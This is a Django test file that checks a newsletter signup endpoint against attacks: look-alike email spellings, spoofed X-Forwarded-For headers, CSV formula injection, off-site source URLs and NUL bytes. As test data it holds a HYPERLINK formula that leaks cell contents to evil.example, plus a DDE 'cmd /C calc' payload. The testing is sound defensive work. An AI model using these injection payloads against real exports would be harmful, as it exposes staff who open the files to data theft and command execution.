"""Issue 13, items 2, 3, 5 and 6: the public signup endpoint under attack, over HTTP."""

from __future__ import annotations

import csv
import io

import pytest
from django.core import mail
from django.test import Client, override_settings
from django.urls import reverse

from newsletter.models import Subscriber

pytestmark = pytest.mark.django_db

SIGNUP = "/newsletter/subscribe/"
JSON = {"HTTP_ACCEPT": "application/json", "HTTP_ORIGIN": "http://testserver"}


def signup(email, *, ip="127.0.0.1", headers=JSON, forwarded_for=None, **fields):
    data = {"email": email, "newsletter": "morning-ledger", **fields}
    if forwarded_for is not None:
        headers = {**headers, "HTTP_X_FORWARDED_FOR": forwarded_for}
    return Client().post(SIGNUP, data, REMOTE_ADDR=ip, **headers)


# Item 2: one inbox, many spellings ---------------------------------------------------------------

# Twelve spellings that all land in the inbox of leser@bücher.example.
SPELLINGS = [
    "leser@bücher.example",
    "leser@xn--bcher-kva.example",  # the same domain in punycode
    "LESER@BÜCHER.EXAMPLE",
    "le\u200bser@bücher.example",  # zero-width space
    "le\u00adser@bücher.example",  # soft hyphen
    "le\u2060ser@bücher.example",  # word joiner
    "\uff4c\uff45\uff53\uff45\uff52@bücher.example",  # full-width letters
    "leser@bu\u0308cher.example",  # ü as u + combining diaeresis
    '"leser"@bücher.example',  # a quoted local part
    "leser+news@bücher.example",
    "Leser+Tag@xn--bcher-kva.example",
    "leser\ufeff@\uff42\u00fccher.example",  # a BOM, and a full-width b in the domain
]


def test_twelve_spellings_of_one_inbox_get_at_most_one_email(newsletter):
    statuses = [signup(address, ip=f"10.1.0.{index}").status_code for index, address in enumerate(SPELLINGS)]
    assert set(statuses) <= {200, 400, 429}
    assert statuses[0] == 200
    assert len(mail.outbox) == 1
    assert mail.outbox[0].to == ["leser@xn--bcher-kva.example"]
    stored = set(Subscriber.objects.values_list("email", flat=True))
    assert {address.partition("+")[0] for address in stored} == {"leser@xn--bcher-kva.example"}
    assert set(Subscriber.objects.values_list("mailbox", flat=True)) == {"leser@xn--bcher-kva.example"}


def test_tagged_spellings_share_the_inbox_limit_but_keep_their_own_row(newsletter):
    assert signup("reader+one@example.org").status_code == 200
    assert signup("reader+two@example.org").status_code == 200
    assert len(mail.outbox) == 1  # one confirmation a day per inbox, whatever the tag
    assert Subscriber.objects.count() == 2


@pytest.mark.parametrize(
    "address",
    ['"reader"@example.org', '"a b"@example.org', "reader@[127.0.0.1]", "reader@localhost", "reader@intranet"],
)
def test_quoted_literal_local_and_single_label_addresses_are_refused(newsletter, address):
    response = signup(address)
    assert response.status_code == 400
    assert response.json()["errors"]["email"]
    assert not Subscriber.objects.exists() and not mail.outbox


# Item 3: the client IP behind a proxy -------------------------------------------------------------

PROXY = "10.0.0.1"  # every request reaches the site from the proxy


def through_proxy(address, forwarded_for):
    return signup(address, ip=PROXY, forwarded_for=forwarded_for)


@override_settings(NEWSLETTER={"NUM_PROXIES": 1, "RATE_LIMIT_PER_IP": 3})
def test_behind_one_proxy_spoofed_entries_share_the_senders_bucket_and_readers_do_not(newsletter):
    # The proxy appends the address it saw (203.0.113.5); the attacker writes anything to the left.
    spoofed = [
        through_proxy(f"r{index}@example.org", f"198.51.100.{index}, 203.0.113.5").status_code for index in range(8)
    ]
    assert spoofed == [200, 200, 200, 429, 429, 429, 429, 429]
    # Another reader behind the same proxy has a bucket of her own.
    assert through_proxy("other@example.org", "203.0.113.9").status_code == 200


@override_settings(NEWSLETTER={"NUM_PROXIES": 2, "RATE_LIMIT_PER_IP": 2})
def test_two_proxies_and_a_short_header(newsletter):
    # CDN then nginx: the client is the second entry from the right.
    assert [through_proxy(f"a{i}@example.org", f"1.1.1.{i}, 203.0.113.7, 192.0.2.1").status_code for i in range(3)] == [
        200,
        200,
        429,
    ]
    # Fewer entries than proxies: not through our proxies, so the connection's own address counts.
    assert signup("b@example.org", ip="192.0.2.50", forwarded_for="203.0.113.7").status_code == 200


# Item 5: what reaches the subscriber export ------------------------------------------------------

FORMULA = '=HYPERLINK("https://evil.example/?leak="&A1,"Open")'


def exported_rows(client) -> list[list[str]]:
    url = reverse(Subscriber.snippet_viewset.get_url_name("list"))
    response = client.get(url, {"export": "csv"})
    assert response.status_code == 200 and response["Content-Type"].startswith("text/csv")
    text = b"".join(response.streaming_content).decode()
    return list(csv.reader(io.StringIO(text)))


def test_a_formula_in_the_referer_or_the_address_never_reaches_the_csv_as_a_formula(newsletter, superuser):
    assert signup("reader@example.org", headers={**JSON, "HTTP_REFERER": FORMULA}).status_code == 200
    assert (
        signup("=1+2@example.org", headers={**JSON, "HTTP_REFERER": "@SUM(1+1)*cmd|' /C calc'!A0"}).status_code == 200
    )
    assert set(Subscriber.objects.values_list("source_url", flat=True)) == {""}
    client = Client()
    client.force_login(superuser)
    _header, *rows = exported_rows(client)
    cells = [cell for row in rows for cell in row]
    assert "'=1+2@example.org" in cells  # shown as the text it is
    assert not [cell for cell in cells if cell.startswith(("=", "+", "-", "@", "\t", "\r"))]


@pytest.mark.parametrize(
    ("source", "stored"),
    [
        ("/local/harbor-story/", "http://testserver/local/harbor-story/"),
        ("http://testserver/local/", "http://testserver/local/"),
        ("https://evil.example/local/", ""),
        ("//evil.example/local/", ""),
        ("javascript:alert(1)", ""),
    ],
)
def test_only_same_site_http_urls_are_kept_as_the_source(newsletter, source, stored):
    assert signup("reader@example.org", source=source).status_code == 200
    assert Subscriber.objects.get().source_url == stored


# Item 6: NUL characters ----------------------------------------------------------------------------


def test_a_nul_in_the_newsletter_parameter_is_a_400(newsletter):
    assert Client().get(SIGNUP, {"newsletter": "\x00"}).status_code == 400
    assert Client().get(SIGNUP, {"newsletter": "morning\x00ledger"}).status_code == 400
    response = signup("reader@example.org", newsletter="\x00")
    assert response.status_code == 400 and response.json()["errors"]["__all__"]
    assert not Subscriber.objects.exists()


def test_a_nul_in_the_referer_is_never_stored(newsletter):
    response = signup("reader@example.org", headers={**JSON, "HTTP_REFERER": "http://testserver/local/\x00story"})
    assert response.status_code == 200
    assert "\x00" not in Subscriber.objects.get().source_url


@pytest.mark.parametrize("field", ["email", "source", "website"])
def test_a_nul_in_any_form_field_is_a_form_error(newsletter, field):
    fields = {"email": "reader@example.org", field: "x\x00y"}
    response = Client().post(SIGNUP, {"newsletter": "morning-ledger", **fields}, **JSON)
    assert response.status_code in (200, 400)  # the honeypot pretends
    assert not Subscriber.objects.exclude(source_url="").exists()
    assert "\x00" not in "".join(Subscriber.objects.values_list("email", flat=True))


@pytest.mark.parametrize(
    "url", ["/?page=%00", "/local/?page=%00", "/%00/", "/feeds/rss/?x=%00", "/admin/pages/search/?q=%00"]
)
def test_a_nul_anywhere_in_a_public_url_is_a_400(tree, url):
    assert Client().get(url).status_code == 400
